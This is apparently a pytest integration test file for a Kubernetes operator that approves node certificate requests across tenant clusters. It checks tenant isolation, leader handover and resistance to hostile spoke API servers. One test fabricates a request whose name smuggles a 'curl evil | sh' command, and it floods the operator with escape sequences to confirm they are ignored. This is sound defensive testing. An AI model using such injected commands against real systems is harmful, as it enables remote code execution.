"""Nodes of further clusters, on real API servers: each is let into its own cluster and into no other."""

from __future__ import annotations

import base64
import json
import os
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hostler.instant import iso
from hostler.kube.clusters import FRESH
from hostler.sandbox import Sandbox
from hostler.sandbox.build import Silent
from hostler.sandbox.crds import install_crds
from tests.real.arriving import allow_bootstrappers, approved, ask_client, ask_serving, bootstrapper, forget
from tests.real.conftest import Eventually
from tests.real.operating import Running, hostler, operator, refused
from tests.real.spoking import (
    ESCAPE,
    SpokeCluster,
    add_cluster,
    add_host,
    documented,
    hostile,
    keep_kubeconfig,
    spoke_cluster,
    with_everything_in_it,
)
from tests.unit.joining import ACCOUNT, ACCOUNT_GROUPS, CLIENT_USAGES, key, pem

A, B = "a", "b"  # the clusters of two tenants; b's API server is the sandbox's own


@pytest.fixture(scope="module")
def mark() -> str:
    return os.urandom(3).hex()


@pytest.fixture(scope="module")
def tenants(sandbox: Sandbox, mark: str) -> Iterator[tuple[str, str]]:
    """The namespaces of two tenants."""
    made = f"tenant-a-{mark}", f"tenant-b-{mark}"
    install_crds(sandbox, ("agents", "capi", "metal3", "openshift"), Silent())
    for one in made:
        sandbox.kubectl("create", "namespace", one)
    yield made
    for one in made:
        for kind in ("bmh", "metal3machines", "clusters.cluster.x-k8s.io"):
            sandbox.kubectl("delete", kind, "--all", "-n", one, "--wait=false")
    sandbox.kubectl("delete", "namespace", *made, "--wait=false")
    sandbox.kubectl("delete", "configmap", "hostler-join", "-n", "kube-system", "--ignore-not-found")


@pytest.fixture(scope="module")
def spoke(sandbox: Sandbox, mark: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SpokeCluster]:
    """The cluster of tenant a: a real API server of its own."""
    with spoke_cluster(sandbox, tmp_path_factory.mktemp("spoke"), f"spoke-{mark}") as made:
        yield made


@pytest.fixture(scope="module")
def running(
    sandbox: Sandbox, spoke: SpokeCluster, tenants: tuple[str, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Running]:
    """One operator for the whole file. It may read the kubeconfigs of these tenants, as docs/join.md grants it."""
    assert hostler(sandbox.kubeconfig, "crds", "--apply").returncode == 0
    sandbox.kubectl("delete", "fleet", "--all", "--ignore-not-found")
    allow_bootstrappers(sandbox)
    spoke.apply(sandbox.get("clusterrolebinding", "test-node-bootstrapper") | {"metadata": {"name": "bootstrap"}})
    forget(sandbox)
    own, other = tenants
    add_cluster(sandbox, own, A, spoke.token("first"))
    add_cluster(sandbox, other, B, with_everything_in_it(sandbox, sandbox.kubeconfig))
    folder, space = tmp_path_factory.mktemp("join-spoke"), f"join-{own}"
    sandbox.kubectl("create", "namespace", space)
    for tenant in tenants:
        role, binding = documented("on the hub")
        role["metadata"]["namespace"] = binding["metadata"]["namespace"] = tenant
        role["rules"][0].pop("resourceNames")  # the tests add clusters of other names
        group = {"kind": "Group", "name": f"system:serviceaccounts:{space}", "apiGroup": "rbac.authorization.k8s.io"}
        sandbox.apply(role, {**binding, "subjects": [group]})
    with operator(sandbox, folder, space, "--only", "join", "--join-spokes", f"{own}/{A},{other}/*") as started:
        started.said("leading")
        yield started
        assert [one for one in refused(started) if not str(one.get("cluster")).endswith("/refuses")] == []
    sandbox.kubectl("delete", "fleet", "--all", "--ignore-not-found")
    sandbox.kubectl("delete", "namespace", space, "--wait=false")
    sandbox.kubectl("delete", "clusterrolebinding", "test-node-bootstrapper", "--ignore-not-found")
    forget(sandbox)


@pytest.fixture
def name() -> str:
    return f"w-{os.urandom(4).hex()}"


@pytest.fixture
def in_spoke(spoke: SpokeCluster, tmp_path: Path) -> Path:
    """Whoever has the bootstrap credential of tenant a's cluster."""
    box: Any = spoke
    return bootstrapper(box, tmp_path)


@pytest.fixture
def in_hub(sandbox: Sandbox, tmp_path: Path) -> Path:
    folder = tmp_path / "hub"
    folder.mkdir()
    return bootstrapper(sandbox, folder)


def why(running: Running, cluster: str, csr: str) -> str:
    try:
        with urllib.request.urlopen(f"{running.url}/v1/explain/csr/{cluster}/{csr}", timeout=30) as answer:
            return str(answer.read().decode())
    except urllib.error.HTTPError as error:
        error.close()
        return ""


def says(running: Running, cluster: str, csr: str, sentence: str, eventually: Eventually) -> None:
    eventually(lambda: sentence in why(running, cluster, csr), 60, f"{sentence}: {why(running, cluster, csr)}")


def metrics(running: Running) -> str:
    with urllib.request.urlopen(f"{running.url}/metrics", timeout=30) as answer:
        return str(answer.read().decode())


def condition(sandbox: Sandbox) -> dict[str, Any]:
    found = sandbox.get("fleet", "cluster")["status"]["conditions"]
    return next((one for one in found if one["type"] == "JoinSpokesFollowed"), {})


def events(sandbox: Sandbox, namespace: str, reason: str) -> list[dict[str, Any]]:
    path = f"/apis/events.k8s.io/v1/namespaces/{namespace}/events?fieldSelector=reason%3D{reason}"
    found: list[dict[str, Any]] = sandbox.read(path)["items"]
    return found


def test_a_host_of_the_hub_becomes_a_node_of_its_spoke(
    sandbox: Sandbox, spoke: SpokeCluster, running: Running, tenants: tuple[str, str], in_spoke: Path, name: str,
    eventually: Eventually,
) -> None:  # fmt: skip
    """Approved there, once, with no more rights there than documented; told on the hub."""
    own, cluster = tenants[0], f"{tenants[0]}/{A}"
    add_host(sandbox, own, name, A)
    csr = ask_client(in_spoke, name)
    eventually(lambda: spoke.approved(csr) == ["HostlerJoin"], 90, f"approved there: {why(running, cluster, csr)}")
    memory = spoke.read("/api/v1/namespaces/kube-system/configmaps/hostler-join")["data"]
    assert json.loads(memory[name])["csr"] == csr
    (told,) = eventually(lambda: events(sandbox, own, "Approved"), 60, "an Event on the Cluster")
    assert (told["regarding"]["kind"], told["regarding"]["name"]) == ("Cluster", A)
    assert told["note"] == f"Approved the client certificate of node {name} in this cluster."
    again = ask_client(in_spoke, name, key=key(1))
    says(running, cluster, again, f"{name} was let in by {csr} already", eventually)
    says(running, cluster, again, f"`hostler join approve {again} --cluster {cluster}`", eventually)
    assert not spoke.approved(again)
    measured = metrics(running)
    assert f'hostler_join_spoke_up{{cluster="{cluster}"}} 1.0' in measured
    assert f'hostler_join_spoke_requests{{act="leave",cluster="{cluster}"}} 1.0' in measured
    signer = "kubernetes.io/kube-apiserver-client-kubelet"
    assert f'hostler_join_spoke_approved_total{{cluster="{cluster}",signer="{signer}"}} 1.0' in measured
    spokes = ("--join-spokes", f"{own}/*")
    shown = json.loads(hostler(sandbox.kubeconfig, "join", "csrs", *spokes, "-o", "json").stdout)
    assert [(one["name"], one["cluster"], one["verdict"]) for one in shown if one["name"] == again] == [
        (again, cluster, "leave")
    ]
    table = hostler(sandbox.kubeconfig, "join", "csrs", *spokes).stdout
    assert cluster in next(line for line in table.splitlines() if again in line)
    explained = hostler(sandbox.kubeconfig, "explain", f"csr/{cluster}/{again}", "--operator", running.url).stdout
    assert f"In Cluster {cluster}" in explained
    # By hand, as the sentence above says; and the node's own serving certificate.
    done = hostler(sandbox.kubeconfig, "join", "approve", again, "--cluster", cluster, "--yes")
    assert done.returncode == 0, done.stderr
    assert spoke.approved(again) == ["HostlerJoin"]
    wrong = hostler(sandbox.kubeconfig, "join", "approve", again, "--cluster", f"{own}/none", "--yes")
    assert "There is no cluster" in wrong.stderr
    node = {"apiVersion": "v1", "kind": "Node", "metadata": {"name": name}}
    spoke.apply(node)
    address = {"status": {"addresses": [{"type": "InternalIP", "address": "10.98.0.1"}]}}
    spoke.kubectl("patch", "node", name, "--subresource=status", "--type=merge", "-p", json.dumps(address))
    kubelet = Path(in_spoke).with_name("kubelet.kubeconfig")
    kubelet.touch(0o600)
    kubelet.write_text(
        in_spoke.read_text().replace(f"as: {ACCOUNT}", f"as: system:node:{name}\n    as-groups: [system:nodes]")
    )
    serving = ask_serving(kubelet, name, name, "10.98.0.1")
    eventually(lambda: spoke.approved(serving), 60, f"its serving certificate: {why(running, cluster, serving)}")


def test_no_cluster_lets_in_the_host_of_another(
    sandbox: Sandbox, spoke: SpokeCluster, running: Running, tenants: tuple[str, str], in_spoke: Path, in_hub: Path,
    name: str, eventually: Eventually,
) -> None:  # fmt: skip
    """Tenant a has every right in their own cluster and namespace, and wants a node of tenant b there."""
    own, other = tenants
    add_host(sandbox, other, name, B)
    # Their control plane says it is the other's cluster, as Cluster API would have written it.
    spoke.apply({
        "apiVersion": "v1", "kind": "Node",
        "metadata": {
            "name": f"liar-{name}", "labels": {"node-role.kubernetes.io/control-plane": ""},
            "annotations": {"cluster.x-k8s.io/cluster-name": B, "cluster.x-k8s.io/cluster-namespace": other},
        },
    })  # fmt: skip
    stolen = ask_client(in_spoke, name)
    says(running, f"{own}/{A}", stolen, f"nobody expects a node named {name}", eventually)
    # A host in their own namespace that says the other's machine consumes it; and one of theirs for a machine of b.
    add_host(sandbox, own, f"{name}-crossed", B, machine_in=other)
    crossed = ask_client(in_hub, f"{name}-crossed")
    add_host(sandbox, own, f"{name}-label", f"{other}/{B}".replace("/", "."))
    labelled = ask_client(in_spoke, f"{name}-label")
    says(running, f"{own}/{A}", labelled, "is for cluster", eventually)
    # Metal3Machine crossed is of b, and in b's namespace: it invites in b, but only when its own host is provisioned.
    says(running, f"{other}/{B}", crossed, "is not being provisioned", eventually)
    assert not spoke.approved(stolen)
    assert not spoke.approved(labelled)
    assert not approved(sandbox, crossed)
    (told,) = eventually(lambda: events(sandbox, own, "UnknownHost"), 60, "an Event on the Cluster")
    assert name not in told["note"], "a spoke does not choose the words on the hub"
    # The true one gets in, in its own cluster.
    true = ask_client(in_hub, name)
    eventually(lambda: approved(sandbox, true), 60, f"in b: {why(running, f'{other}/{B}', true)}")


def test_two_clusters_have_a_host_of_one_name(
    sandbox: Sandbox, spoke: SpokeCluster, running: Running, tenants: tuple[str, str], in_spoke: Path, in_hub: Path,
    name: str, eventually: Eventually,
) -> None:  # fmt: skip
    """Each lets its own in, once; neither is a rival of the other nor uses up its turn."""
    own, other = tenants
    add_host(sandbox, own, name, A)
    first = ask_client(in_spoke, name)
    early = ask_client(in_hub, name)
    eventually(lambda: spoke.approved(first), 60, f"in a: {why(running, f'{own}/{A}', first)}")
    says(running, f"{other}/{B}", early, f"nobody expects a node named {name}", eventually)
    assert not approved(sandbox, early)
    forget(sandbox, [early])
    eventually(lambda: not why(running, f"{other}/{B}", early), 60, "the operator knows that it is gone")
    add_host(sandbox, other, name, B)
    second = ask_client(in_hub, name, key=key(2))
    eventually(lambda: approved(sandbox, second), 60, f"in b: {why(running, f'{other}/{B}', second)}")
    replay = ask_client(in_spoke, name, key=key(3))
    says(running, f"{own}/{A}", replay, "was let in by", eventually)
    assert not spoke.approved(replay)


def test_a_pause_and_another_leader_stop_it_there_too(
    sandbox: Sandbox, spoke: SpokeCluster, running: Running, tenants: tuple[str, str], in_spoke: Path, name: str,
    eventually: Eventually,
) -> None:  # fmt: skip
    """And an exchanged kubeconfig is used as soon as the old one is refused."""
    own, cluster = tenants[0], f"{tenants[0]}/{A}"
    assert hostler(sandbox.kubeconfig, "pause", "--why", "a look").returncode == 0
    add_host(sandbox, own, name, A)
    held = ask_client(in_spoke, name)
    says(running, cluster, held, "heldBack", eventually)
    assert not spoke.approved(held)
    keep_kubeconfig(sandbox, own, A, spoke.token("second"))
    spoke.kubectl("-n", "kube-system", "delete", "serviceaccount", "first")
    assert hostler(sandbox.kubeconfig, "resume").returncode == 0
    eventually(lambda: spoke.approved(held), 90, f"once it goes on: {why(running, cluster, held)}")
    # Another replica has the lease from now on.
    space = f"join-{own}"
    taken = {"spec": {"holderIdentity": "another", "renewTime": iso(time.time()).replace("Z", ".000000Z"),
                      "leaseDurationSeconds": 3600}}  # fmt: skip
    sandbox.kubectl("patch", "lease", "hostler", "-n", space, "--type=merge", "-p", json.dumps(taken))
    eventually(lambda: "hostler_leader 0.0" in metrics(running), 60, "it has lost the lease")
    add_host(sandbox, own, f"{name}-2", A)
    second = ask_client(in_spoke, f"{name}-2")
    time.sleep(2)
    assert not spoke.approved(second)
    sandbox.kubectl("delete", "lease", "hostler", "-n", space)
    eventually(lambda: spoke.approved(second), 60, f"it leads once more: {why(running, cluster, second)}")


def test_a_hostile_spoke_is_not_believed_and_delays_nobody(
    sandbox: Sandbox, spoke: SpokeCluster, running: Running, tenants: tuple[str, str], in_spoke: Path, in_hub: Path,
    name: str, eventually: Eventually,
) -> None:  # fmt: skip
    """One refuses with its own text, one sends without end, one invents requests: none of it reaches our users."""
    own, other = tenants
    sandbox.kubectl("delete", "secret", f"{B}-kubeconfig", "-n", other)
    gone_at = time.monotonic()
    invented: dict[str, Any] = {
        "metadata": {"name": f"x; curl evil | sh {ESCAPE}", "uid": "1", "resourceVersion": "1",
                     "creationTimestamp": iso(time.time())},
        "spec": {"request": base64.b64encode(pem(name)).decode(), "signerName":
                 "kubernetes.io/kube-apiserver-client-kubelet", "usages": list(CLIENT_USAGES),
                 "username": ACCOUNT, "groups": list(ACCOUNT_GROUPS)},
    }  # fmt: skip
    named = {**invented, "metadata": {**invented["metadata"], "name": "csr-1", "uid": "2", "resourceVersion": "2"},
             "spec": {**invented["spec"], "username": ESCAPE * 100}}  # fmt: skip
    with hostile() as refuses, hostile(endless=True) as floods, hostile([invented, named]) as invents:
        for cluster, server in (("refuses", refuses), ("floods", floods), ("invents", invents)):
            add_host(sandbox, other, f"{name}-{cluster}", cluster)
            add_cluster(sandbox, other, cluster, server.kubeconfig)
        add_host(sandbox, other, name, "invents")
        eventually(lambda: "TOO_MUCH" in running.log.read_text(), 60, "the flood is noticed")
        eventually(lambda: "AWAY" in running.log.read_text(), 60, "the refusal is noticed")
        # Meanwhile the others are served.
        add_host(sandbox, own, name, A)
        csr = ask_client(in_spoke, name)
        eventually(lambda: spoke.approved(csr), 30, "its neighbour")
        says(running, f"{other}/invents", "csr-1", "Ignored: ", eventually)
        assert not [one for one in invents.asked if one.startswith("PATCH")], "nothing was approved there"
        flooded = f"{other}/floods (it sends more than a cluster should)"
        eventually(lambda: flooded in condition(sandbox).get("message", ""), 60, "the condition")
        said = condition(sandbox)
        assert said["status"] == "False"
        notes = [
            one["note"] for reason in ("SpokeNotFollowed", "UnknownHost") for one in events(sandbox, other, reason)
        ]
        assert notes
        assert not any("PASSWORD" in text for text in (said["message"], *notes))
        shown = hostler(sandbox.kubeconfig, "join", "csrs", "--join-spokes", f"{other}/invents,{other}/refuses")
        assert "\x1b[2J" not in shown.stdout + shown.stderr
        resident = int(Path(f"/proc/{running.process.pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")
        assert resident < 400 << 20, "what it sends is not kept"
    for cluster in ("refuses", "floods", "invents"):
        sandbox.kubectl("delete", "clusters.cluster.x-k8s.io", cluster, "-n", other, "--wait=false")
    # What was deleted at the beginning is known to be gone by now: nothing is approved with what was in it.
    time.sleep(max(0.0, FRESH + 1 - (time.monotonic() - gone_at)))
    add_host(sandbox, other, f"{name}-late", B)
    late = ask_client(in_hub, f"{name}-late")
    says(running, f"{other}/{B}", late, "its kubeconfig cannot be used", eventually)
    assert not approved(sandbox, late)
    gone = f'hostler_join_spoke_up{{cluster="{other}/floods"}}'
    eventually(lambda: gone not in metrics(running), 60, "a deleted cluster leaves no series")
